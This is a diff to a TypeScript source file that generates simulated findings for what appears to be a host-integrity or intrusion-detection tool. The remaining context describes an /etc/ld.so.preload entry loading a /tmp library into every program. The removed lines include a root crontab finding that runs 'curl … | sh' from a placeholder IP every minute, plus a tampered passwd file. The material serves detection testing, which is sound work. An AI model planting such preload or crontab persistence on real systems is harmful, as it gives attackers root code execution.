@@ -29,7 +29,6 @@ import {
   UPTIME_SEC,
 } from './scene-machine.ts';
 import { listenerFrom, snapshotFrom } from './snapshot.ts';
-import { ALTERED, PLANTED } from './startup-scenes.ts';
 import { noteFrom, type StateParts } from './state.ts';
 import type { ProcessRow } from './table.ts';
 
@@ -560,22 +559,6 @@ function hostile(nowMs: number): Omit<Scene, 'name' | 'nowMs'> {
       subject: { kind: 'file', path: `/etc/ld.so.preload ${HOSTILE.markup}` },
       summary: `/etc/ld.so.preload loads /tmp/${HOSTILE.script}.so into every program`,
       evidence: { libraries: `/tmp/${HOSTILE.script}.so ${HOSTILE.rtl} ${HOSTILE.terminal}`, bytes: 96 },
-      ...seen,
-    }),
-    found({
-      check: 'startup-entry',
-      subject: { kind: 'file', path: PLANTED, content: 'planted' },
-      summary: `${PLANTED} (system crontab): "curl -s http://203.0.113.9/${HOSTILE.markup} | sh" as root, * * * * *; no package vouches for it`,
-      evidence: { place: 'crontab', user: 'root', entry: 'planted' },
-      evidenceClass: 'crontab',
-      ...seen,
-    }),
-    found({
-      check: 'packaged-file',
-      subject: { kind: 'file', path: ALTERED },
-      summary: `${ALTERED} is not as passwd 1:4.17.4-2 has it`,
-      evidence: { package: 'passwd', version: '1:4.17.4-2', md5_found: 'b'.repeat(32), files: 1 },
-      evidenceClass: 'passwd',
       ...seen,
     }),
   ];
